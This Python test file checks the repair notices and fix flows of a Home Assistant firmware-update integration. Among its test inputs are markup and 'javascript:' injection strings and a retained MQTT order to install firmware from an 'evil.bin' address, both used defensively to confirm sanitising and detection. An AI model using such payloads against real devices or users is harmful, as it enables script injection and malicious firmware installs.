"""Repairs: what the owner reads, and what each answer does."""

import json
import sqlite3
from contextlib import closing
from dataclasses import replace
from datetime import datetime, timedelta
from http import HTTPStatus
from typing import Any

import pytest
from homeassistant.helpers import entity_registry as er, issue_registry as ir
from homeassistant.setup import async_setup_component
from homeassistant.util import dt as dt_util
from pytest_homeassistant_custom_component.common import MockConfigEntry, async_fire_mqtt_message
from pytest_homeassistant_custom_component.typing import ClientSessionGenerator

from custom_components.firmware_hub import issues
from custom_components.firmware_hub.const import CONF_ANY_TIME, CONF_SERVING, CONF_WINDOW_END, DOMAIN
from custom_components.firmware_hub.core import limits
from custom_components.firmware_hub.core.effects import ClearIssue, IssueKind, RaiseIssue, Severity
from custom_components.firmware_hub.core.errors import Reason
from custom_components.firmware_hub.repairs import CHOICES
from simulator.tricks import Trick
from tests.ha.home import Home, discovered, fire_mqtt_discovery, until
from tests.ha.test_night import rejected

FAILED = RaiseIssue(
    IssueKind.INSTALL_FAILED,
    "open:plug-1",
    Severity.ERROR,
    fixable=True,
    reason=Reason.CAME_BACK_OLD,
    values={"device": "plug-1", "version": "1.1.0", "from_version": "1.0.0", "verdict": "failed"},
)


def the_issue(home: Home, kind: IssueKind) -> ir.IssueEntry:
    """Return the only issue of a kind."""
    (found,) = [
        issue
        for issue in ir.async_get(home.hass).issues.values()
        if issue.domain == DOMAIN and issue.translation_key == kind
    ]
    return found


def places(issue: ir.IssueEntry) -> dict[str, str]:
    """Return what fills the places of an issue's texts."""
    assert issue.translation_placeholders is not None
    return issue.translation_placeholders


def has(home: Home, kind: IssueKind) -> bool:
    """Return whether an issue of a kind is shown."""
    return any(
        issue.active and issue.domain == DOMAIN and issue.translation_key == kind
        for issue in ir.async_get(home.hass).issues.values()
    )


class Fix:
    """A fix flow as the frontend goes through it."""

    def __init__(self, home: Home, http: Any) -> None:
        self._home = home
        self._http = http

    async def open(self, kind: IssueKind) -> dict[str, Any]:
        """Open the flow of the only issue of a kind."""
        issue = the_issue(self._home, kind)
        return await self._post("/api/repairs/issues/fix", {"handler": DOMAIN, "issue_id": issue.issue_id})

    async def choose(self, step: dict[str, Any], choice: str) -> dict[str, Any]:
        """Take one of the menu's options."""
        return await self.answer(step, {"next_step_id": choice})

    async def answer(self, step: dict[str, Any], given: dict[str, Any]) -> dict[str, Any]:
        """Answer a step."""
        return await self._post(f"/api/repairs/issues/fix/{step['flow_id']}", given)

    async def _post(self, path: str, data: dict[str, Any]) -> dict[str, Any]:
        answer = await self._http.post(path, json=data)
        assert answer.status == HTTPStatus.OK, await answer.text()
        result: dict[str, Any] = await answer.json()
        return result


@pytest.fixture
async def http(home: Home, hass_client: ClientSessionGenerator) -> Any:
    """A signed-in administrator's browser."""
    assert await async_setup_component(home.hass, "repairs", {})
    return await hass_client()


@pytest.fixture
def fix(home: Home, http: Any) -> Fix:
    """A way through fix flows, by day."""
    return Fix(home, http)


# --- what is shown ---------------------------------------------------------------------------------------------------


async def test_an_issue_has_everything_that_its_texts_ask_for(home: Home) -> None:
    issues.raise_issue(home.hass, home.entry, FAILED)
    issue = the_issue(home, IssueKind.INSTALL_FAILED)
    assert issue.severity is ir.IssueSeverity.ERROR
    assert issue.is_fixable
    assert set(places(issue)) == set(issues.PLACES)
    assert places(issue)["device"] == "plug-1"
    assert places(issue)["reason"].startswith("The device is back and works, but on its old version")
    assert places(issue)["recovery"] == "-"


async def test_raising_again_replaces(home: Home) -> None:
    issues.raise_issue(home.hass, home.entry, replace(FAILED, severity=Severity.WARNING))
    issues.raise_issue(home.hass, home.entry, FAILED)
    assert the_issue(home, IssueKind.INSTALL_FAILED).severity is ir.IssueSeverity.ERROR


async def test_clearing_takes_it_away_even_if_it_is_not_there(home: Home) -> None:
    issues.raise_issue(home.hass, home.entry, FAILED)
    for _ in range(2):
        issues.clear_issue(home.hass, home.entry, ClearIssue(IssueKind.INSTALL_FAILED, "open:plug-1"))
    assert not has(home, IssueKind.INSTALL_FAILED)


async def test_two_devices_have_an_issue_each(home: Home) -> None:
    for subject in ("open:plug-1", "open:plug-2"):
        effect = RaiseIssue(IssueKind.TOPIC_CONFLICT, subject, values={"device": subject})
        issues.raise_issue(home.hass, home.entry, effect)
    found = [issue for issue in ir.async_get(home.hass).issues.values() if issue.translation_key == "topic_conflict"]
    assert len(found) == 2


async def test_foreign_text_is_harmless_in_issues(home: Home) -> None:
    values = {"device": "[pay](http://x.example)<img src=x>\nnow", "recovery_url": "javascript:alert(1)"}
    issues.raise_issue(home.hass, home.entry, RaiseIssue(IssueKind.DEVICE_DARK, "open:x", values=values))
    issue = the_issue(home, IssueKind.DEVICE_DARK)
    assert "](" not in places(issue)["device"]
    assert "<img" not in places(issue)["device"]
    assert "\n" not in places(issue)["device"]
    assert issue.learn_more_url is None


async def test_the_address_of_a_feed_is_shown_without_its_secrets(home: Home) -> None:
    values = {"feed": "Acme", "url": "https://user:secret@acme.example/feed?token=secret"}
    issues.raise_issue(home.hass, home.entry, RaiseIssue(IssueKind.FEED_UNREACHABLE, "feed1", values=values))
    issue = the_issue(home, IssueKind.FEED_UNREACHABLE)
    assert places(issue)["host"] == "acme.example"
    assert "secret" not in str(issue)


async def test_removing_the_hub_removes_its_issues(home: Home) -> None:
    issues.raise_issue(home.hass, home.entry, FAILED)
    await home.hass.config_entries.async_remove(home.entry.entry_id)
    assert not has(home, IssueKind.INSTALL_FAILED)


async def test_issues_of_another_hub_stay(home: Home) -> None:
    other = MockConfigEntry(domain=DOMAIN)
    issues.raise_issue(home.hass, other, FAILED)
    issues.clear_all(home.hass, home.entry)
    assert has(home, IssueKind.INSTALL_FAILED)


@pytest.mark.parametrize("kind", IssueKind)
async def test_every_kind_can_be_shown_with_or_without_reason(home: Home, kind: IssueKind) -> None:
    for reason in (None, Reason.EXPIRED):
        issues.raise_issue(home.hass, home.entry, RaiseIssue(kind, "x", reason=reason))
    assert the_issue(home, kind).is_fixable is (kind in CHOICES)


# --- a refused feed --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("trick", "raised", "attack"),
    [
        (Trick.FORGED, 0, "forged it"),
        (Trick.UNSIGNED, 0, "forgery"),
        (Trick.TAMPERED, 0, "was changed after the maker signed it"),
        (Trick.OLDER_SEQUENCE, 0, "rollback attack"),
        (Trick.EXPIRED, 1, "freeze attack"),
        (Trick.EQUIVOCATION, 0, "equivocation attack"),
    ],
)
async def test_a_refused_feed_names_the_suspected_attack(home: Home, trick: Trick, raised: int, attack: str) -> None:
    await home.publish("1.1.0")
    home.vendor.sequence += raised
    home.vendor.misbehave(home.vendor.manifest_url, trick)
    await home.act("check")
    await until(lambda: has(home, IssueKind.MANIFEST_REFUSED))
    issue = the_issue(home, IssueKind.MANIFEST_REFUSED)
    assert attack in places(issue)["reason"]
    assert places(issue)["feed"] == "Acme feed"


async def test_asking_the_maker_again_heals_it(home: Home, fix: Fix) -> None:
    await home.publish("1.1.0")
    home.vendor.misbehave(home.vendor.manifest_url, Trick.FORGED)
    await home.act("check")
    await until(lambda: has(home, IssueKind.MANIFEST_REFUSED))
    home.vendor.behave()
    menu = await fix.open(IssueKind.MANIFEST_REFUSED)
    assert menu["menu_options"] == ["check", "stay"]
    done = await fix.choose(menu, "check")
    assert done["type"] == "create_entry"
    assert not has(home, IssueKind.MANIFEST_REFUSED)


async def test_a_refusal_heals_by_itself(home: Home) -> None:
    await home.publish("1.1.0")
    home.vendor.misbehave(home.vendor.manifest_url, Trick.FORGED)
    await home.act("check")
    await until(lambda: has(home, IssueKind.MANIFEST_REFUSED))
    home.vendor.behave()
    await home.act("check")
    await until(lambda: not has(home, IssueKind.MANIFEST_REFUSED))


# --- a maker's new key -----------------------------------------------------------------------------------------------


async def test_a_new_key_is_shown_with_both_fingerprints_and_the_day_from_which_it_counts(home: Home) -> None:
    home.vendor.next_keys = [home.vendor.stranger.public_jwk]
    await home.reread()
    await until(lambda: has(home, IssueKind.KEY_ROTATION))
    shown = places(the_issue(home, IssueKind.KEY_ROTATION))
    assert shown["old_keys"] == home.vendor.key.thumbprint
    assert shown["new_keys"] == home.vendor.stranger.thumbprint
    assert shown["day"] == (dt_util.now() + limits.KEY_ROTATION_DELAY).date().isoformat()


async def test_a_new_key_that_the_owner_refuses_signs_nothing(home: Home, fix: Fix) -> None:
    home.vendor.next_keys = [home.vendor.stranger.public_jwk]
    await home.reread()
    await until(lambda: has(home, IssueKind.KEY_ROTATION))
    menu = await fix.open(IssueKind.KEY_ROTATION)
    assert menu["menu_options"] == ["refuse_keys", "stay"]
    done = await fix.choose(menu, "refuse_keys")
    assert done["type"] == "create_entry"
    assert not has(home, IssueKind.KEY_ROTATION)
    await off_for(home, limits.KEY_ROTATION_DELAY)
    home.vendor.key = home.vendor.stranger
    home.vendor.publish_again()
    await home.act("check")
    await until(lambda: has(home, IssueKind.MANIFEST_REFUSED))
    assert "a key that you never trusted" in places(the_issue(home, IssueKind.MANIFEST_REFUSED))["reason"]


async def test_a_new_key_that_nobody_refuses_takes_over_after_its_days(home: Home) -> None:
    home.vendor.next_keys = [home.vendor.stranger.public_jwk]
    await home.reread()
    await until(lambda: has(home, IssueKind.KEY_ROTATION))
    await off_for(home, limits.KEY_ROTATION_DELAY)
    await until(lambda: not has(home, IssueKind.KEY_ROTATION))
    home.vendor.key = home.vendor.stranger
    await home.reread()
    await home.act("check")  # is answered when all that was ordered before it is written down
    rows = await home.hub.store.async_history(subject="feed1", limit=10)
    assert {"key_announced", "key_adopted"} <= {row["kind"] for row in rows}


async def off_for(home: Home, how_long: timedelta) -> None:
    """Switch the hub off, and on again when it believes that so much time went by: what it noted is that much older."""
    await home.hass.config_entries.async_unload(home.entry.entry_id)
    path = home.hass.config.path(".storage", f"{DOMAIN}.{home.entry.entry_id}.db")

    def age() -> None:
        with closing(sqlite3.connect(path, isolation_level=None)) as connection:
            ((record,),) = connection.execute("SELECT record FROM ledger WHERE feed_id = 'feed1'").fetchall()
            row = json.loads(record)
            keys = json.loads(row["keys"])
            for key in keys["announced"]:
                key["first_seen"] = (datetime.fromisoformat(key["first_seen"]) - how_long).isoformat()
            row["keys"] = json.dumps(keys)
            connection.execute("UPDATE ledger SET record = ? WHERE feed_id = 'feed1'", (json.dumps(row),))

    await home.hass.async_add_executor_job(age)
    await home.set_up()


# --- a failed install ------------------------------------------------------------------------------------------------


async def test_try_again_approves_for_the_next_window(night: Home, hass_client: ClientSessionGenerator) -> None:
    assert await async_setup_component(night.hass, "repairs", {})
    await night.publish("1.1.0")
    entity_id = await rejected(night, "no")
    await until(lambda: has(night, IssueKind.INSTALL_FAILED))
    fix = Fix(night, await hass_client())
    menu = await fix.open(IssueKind.INSTALL_FAILED)
    assert menu["menu_options"] == ["retry", "leave"]
    assert menu["description_placeholders"]["device"] == "plug-1"
    done = await fix.choose(menu, "retry")
    assert done["type"] == "create_entry"
    assert night.state(entity_id).attributes["install_state"] not in {None, "awaiting_approval"}
    rows = await night.hub.store.async_history(subject="open:plug-1", limit=1)
    assert rows[0]["kind"] == "approved"
    users = await night.hass.auth.async_get_users()
    assert rows[0]["values"]["by"] in {user.id for user in users}  # type: ignore[index]
    assert not has(night, IssueKind.INSTALL_FAILED)


async def test_leaving_it_closes_the_notice(home: Home, fix: Fix) -> None:
    issues.raise_issue(home.hass, home.entry, FAILED)
    done = await fix.choose(await fix.open(IssueKind.INSTALL_FAILED), "leave")
    assert done["type"] == "create_entry"
    assert not has(home, IssueKind.INSTALL_FAILED)


async def test_what_cannot_be_tried_again_says_why_and_stays(home: Home, fix: Fix) -> None:
    issues.raise_issue(home.hass, home.entry, FAILED)
    done = await fix.choose(await fix.open(IssueKind.INSTALL_FAILED), "retry")
    assert (done["type"], done["reason"]) == ("abort", "refused")
    assert done["description_placeholders"]["reason"] == "The hub does not know this device."
    assert has(home, IssueKind.INSTALL_FAILED)


async def test_a_failure_is_still_shown_after_a_restart(home: Home) -> None:
    issues.raise_issue(home.hass, home.entry, FAILED)
    assert the_issue(home, IssueKind.INSTALL_FAILED).is_persistent


# --- a stopped model -------------------------------------------------------------------------------------------------


async def test_a_stopped_model_can_be_released_or_stay(night: Home, hass_client: ClientSessionGenerator) -> None:
    assert await async_setup_component(night.hass, "repairs", {})
    await night.publish("1.1.0")
    await rejected(night, "no")
    assert night.hub.hub_view().stopped_models
    assert not has(night, IssueKind.MODEL_STOPPED)  # there is no other device that could wait for an answer
    await night.find("plug-2")
    await until(lambda: has(night, IssueKind.MODEL_STOPPED))
    fix = Fix(night, await hass_client())
    menu = await fix.open(IssueKind.MODEL_STOPPED)
    assert menu["menu_options"] == ["go_on", "stay"]
    stays = await fix.choose(menu, "stay")
    assert (stays["type"], stays["reason"]) == ("abort", "unchanged")
    assert has(night, IssueKind.MODEL_STOPPED)
    done = await fix.choose(await fix.open(IssueKind.MODEL_STOPPED), "go_on")
    assert done["type"] == "create_entry"
    assert not night.hub.hub_view().stopped_models


# --- quiet hours that do not suffice ---------------------------------------------------------------------------------

TOO_SHORT = RaiseIssue(
    IssueKind.WINDOW_TOO_SHORT,
    "Acme/PLUG-S1",
    values={"device_id": "open:plug-1", "device": "plug-1", "minutes": "400"},
)


async def test_any_time_for_the_device_is_an_answer(home: Home, fix: Fix) -> None:
    issues.raise_issue(home.hass, home.entry, TOO_SHORT)
    done = await fix.choose(await fix.open(IssueKind.WINDOW_TOO_SHORT), "any_time")
    assert done["type"] == "create_entry"
    assert home.entry.options[CONF_ANY_TIME] == ["open:plug-1"]


async def test_longer_quiet_hours_are_an_answer(home: Home, fix: Fix) -> None:
    issues.raise_issue(home.hass, home.entry, TOO_SHORT)
    form = await fix.choose(await fix.open(IssueKind.WINDOW_TOO_SHORT), "window")
    assert form["step_id"] == "window"
    done = await fix.answer(form, {"window_start": "22:00:00", "window_end": "07:00:00"})
    assert done["type"] == "create_entry"
    assert home.entry.options[CONF_WINDOW_END] == "07:00:00"


async def test_taking_the_approval_back_is_an_answer(home: Home, fix: Fix) -> None:
    await home.publish("1.1.0")
    entity_id = await home.offered()
    await home.call("update.install", entity_id=entity_id)
    issues.raise_issue(home.hass, home.entry, TOO_SHORT)
    await fix.choose(await fix.open(IssueKind.WINDOW_TOO_SHORT), "skip")
    await until(lambda: home.state(entity_id).attributes["last_verdict"] == "skipped")


async def test_installing_now_is_an_answer_after_missed_nights(home: Home, fix: Fix) -> None:
    await home.publish("1.1.0")
    entity_id = await home.offered()
    await home.say("plug-1", "availability", "online")
    await home.call("update.install", entity_id=entity_id)
    values = {"device": "plug-1", "version": "1.1.0", "windows": "3"}
    issues.raise_issue(home.hass, home.entry, RaiseIssue(IssueKind.WINDOWS_MISSED, "open:plug-1", values=values))
    await fix.choose(await fix.open(IssueKind.WINDOWS_MISSED), "now")
    await until(lambda: home.state(entity_id).attributes["in_progress"])


async def test_now_is_a_yes_to_the_version_that_the_repair_names_and_to_no_newer_one(home: Home, fix: Fix) -> None:
    await home.publish("1.1.0")
    entity_id = await home.offered()
    await home.call("update.install", entity_id=entity_id)
    values = {"device": "plug-1", "version": "1.1.0", "windows": "3"}
    issues.raise_issue(home.hass, home.entry, RaiseIssue(IssueKind.WINDOWS_MISSED, "open:plug-1", values=values))
    opened = await fix.open(IssueKind.WINDOWS_MISSED)
    await home.publish("1.2.0")
    await home.act("approve", entity_id=entity_id, version="1.2.0")
    refused = await fix.choose(opened, "now")
    assert (refused["type"], refused["reason"]) == ("abort", "refused")
    assert home.state(entity_id).attributes["latest_version"] == "1.2.0"
    assert not home.state(entity_id).attributes["in_progress"]


# --- an address that no device can reach -----------------------------------------------------------------------------


async def test_the_address_can_be_set_on_the_spot(home: Home, fix: Fix) -> None:
    effect = RaiseIssue(IssueKind.ADDRESS_UNREACHABLE, "", values={"address": "172.17.0.2"})
    issues.raise_issue(home.hass, home.entry, effect)
    form = await fix.choose(await fix.open(IssueKind.ADDRESS_UNREACHABLE), "address")
    wrong = await fix.answer(form, {"address": "my-server", "port": 0})
    assert wrong["errors"] == {"address": "not_an_address"}
    done = await fix.answer(wrong, {"address": "192.168.1.2", "port": 8127})
    assert done["type"] == "create_entry"
    assert home.entry.options[CONF_SERVING] == {"address": "192.168.1.2", "port": 8127}


# --- orders that somebody left lying on the broker -------------------------------------------------------------------

LEFT = "fwhub/device/plug-1/command"


def leave(home: Home, payload: str, *, retain: bool = True) -> None:
    """Let the broker tell what lies on the topic on which the plug takes its orders."""
    async_fire_mqtt_message(home.hass, LEFT, payload, 0, retain)


async def test_an_order_that_lies_on_the_broker_is_shown_and_cleared_on_that_topic(home: Home, fix: Fix) -> None:
    leave(home, '{"command":"install","url":"http://192.168.1.66/evil.bin"}')
    await until(lambda: has(home, IssueKind.LASTING_COMMAND))
    issue = the_issue(home, IssueKind.LASTING_COMMAND)
    assert (places(issue)["address"], places(issue)["detail"]) == (LEFT, "install")
    assert issue.severity is ir.IssueSeverity.ERROR
    menu = await fix.open(IssueKind.LASTING_COMMAND)
    assert menu["menu_options"] == ["clear", "stay"]
    home.mqtt.async_publish.reset_mock()
    assert (await fix.choose(menu, "clear"))["type"] == "create_entry"
    await until(lambda: home.mqtt.async_publish.call_args_list)
    assert [call.args for call in home.mqtt.async_publish.call_args_list] == [(LEFT, "", 0, True)]
    leave(home, "", retain=False)
    assert not home.hub.hub.keeps_order(LEFT)
    assert not has(home, IssueKind.LASTING_COMMAND)


async def test_it_goes_away_when_somebody_else_clears_it(home: Home) -> None:
    leave(home, '{"command":"install"}')
    await until(lambda: has(home, IssueKind.LASTING_COMMAND))
    leave(home, "", retain=False)
    await until(lambda: not has(home, IssueKind.LASTING_COMMAND))


@pytest.mark.parametrize(("payload", "retain"), [('{"command":"install"}', False), ('{"command":"report"}', True)])
async def test_an_order_of_just_now_or_a_question_is_no_repair(home: Home, payload: str, retain: bool) -> None:
    leave(home, payload, retain=retain)
    await home.find("plug-2")
    assert not has(home, IssueKind.LASTING_COMMAND)


async def test_an_update_waits_while_an_order_lies_there(night: Home) -> None:
    leave(night, '{"command":"install"}')
    await night.publish("1.1.0")
    entity_id = await night.offered()
    await night.say("plug-1", "availability", "online")
    await night.call("update.install", entity_id=entity_id)
    await until(lambda: night.state(entity_id).attributes["reason"] == Reason.LASTING_COMMAND)
    assert "a stray order lies on the broker" in night.state(entity_id).attributes["title"]
    assert night.commands("plug-1", "install") == []


async def test_a_hub_that_is_reloaded_says_it_anew_or_not_at_all(home: Home) -> None:
    leave(home, '{"command":"install"}')
    await until(lambda: has(home, IssueKind.LASTING_COMMAND))
    await home.hass.config_entries.async_unload(home.entry.entry_id)
    assert not has(home, IssueKind.LASTING_COMMAND)


# --- a second update entity ------------------------------------------------------------------------------------------


async def second_updater(home: Home) -> str:
    """Let MQTT discovery show an update entity for the plug; return it."""
    await fire_mqtt_discovery(home.hass, "update", discovered("fw") | {"payload_install": "install"})
    entity_id = er.async_get(home.hass).async_get_entity_id("update", "mqtt", "plug-1-fw")
    assert entity_id is not None
    return entity_id


@pytest.mark.parametrize("ours_first", [True, False])
async def test_a_second_update_entity_is_asked_about_and_disabled(home: Home, fix: Fix, ours_first: bool) -> None:
    if ours_first:
        await home.find()
    theirs = await second_updater(home)
    ours = await home.find()
    await until(lambda: has(home, IssueKind.OTHER_UPDATER))
    issue = the_issue(home, IssueKind.OTHER_UPDATER)
    assert [places(issue)[name] for name in ("integration", "count")] == ["MQTT", "1"]
    menu = await fix.open(IssueKind.OTHER_UPDATER)
    assert menu["menu_options"] == ["disable_others", "leave_both"]
    assert (await fix.choose(menu, "disable_others"))["type"] == "create_entry"
    registry = er.async_get(home.hass)
    disabled = {name: entity.disabled_by for name in (theirs, ours) if (entity := registry.async_get(name))}
    assert disabled == {theirs: er.RegistryEntryDisabler.USER, ours: None}
    assert not has(home, IssueKind.OTHER_UPDATER)


async def test_both_may_be_left_and_the_owner_is_not_asked_again(home: Home, fix: Fix) -> None:
    await home.find()
    await second_updater(home)
    await until(lambda: has(home, IssueKind.OTHER_UPDATER))
    left = await fix.choose(await fix.open(IssueKind.OTHER_UPDATER), "leave_both")
    assert (left["type"], left["reason"]) == ("abort", "left_both")
    assert the_issue(home, IssueKind.OTHER_UPDATER).dismissed_version is not None
    await home.find("plug-2")
    assert the_issue(home, IssueKind.OTHER_UPDATER).dismissed_version is not None


async def test_it_is_over_when_the_other_entity_is_gone(home: Home) -> None:
    await home.find()
    theirs = await second_updater(home)
    await until(lambda: has(home, IssueKind.OTHER_UPDATER))
    er.async_get(home.hass).async_remove(theirs)
    await until(lambda: not has(home, IssueKind.OTHER_UPDATER))


@pytest.mark.parametrize(("installed", "verdict"), [("1.1.0", "already_installed"), ("1.1.5", "canceled")])
async def test_what_the_other_one_installs_ends_the_approval(home: Home, installed: str, verdict: str) -> None:
    await home.publish("1.1.0")
    entity_id = await home.offered()
    await home.call("update.install", entity_id=entity_id)
    await home.announce("plug-1", retain=False, version=installed)
    await until(lambda: home.state(entity_id).attributes["last_verdict"] == verdict)
    assert home.state(entity_id).attributes["install_state"] != "approved"
    assert home.commands("plug-1", "install") == []


async def test_an_update_entity_of_another_device_is_no_business_of_ours(home: Home) -> None:
    await second_updater(home)
    await home.find("plug-2")
    assert not has(home, IssueKind.OTHER_UPDATER)


# --- a hub that is not there -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("choice", ["retry", "any_time", "window", "address"])
async def test_an_answer_to_a_hub_that_is_gone_says_so(home: Home, fix: Fix, choice: str) -> None:
    kind, effect = {
        "retry": (IssueKind.INSTALL_FAILED, FAILED),
        "any_time": (IssueKind.WINDOW_TOO_SHORT, TOO_SHORT),
        "window": (IssueKind.WINDOW_TOO_SHORT, TOO_SHORT),
        "address": (IssueKind.ADDRESS_UNREACHABLE, RaiseIssue(IssueKind.ADDRESS_UNREACHABLE, "")),
    }[choice]
    issues.raise_issue(home.hass, home.entry, effect)
    menu = await fix.open(kind)
    await home.hass.config_entries.async_unload(home.entry.entry_id)
    done = await fix.choose(menu, choice)
    assert (done["type"], done["reason"]) == ("abort", "not_loaded")


async def test_a_flow_of_a_hub_that_is_not_loaded_says_so(home: Home, fix: Fix) -> None:
    issues.raise_issue(home.hass, home.entry, FAILED)
    await home.hass.config_entries.async_unload(home.entry.entry_id)
    done = await fix.open(IssueKind.INSTALL_FAILED)
    assert (done["type"], done["reason"]) == ("abort", "not_loaded")
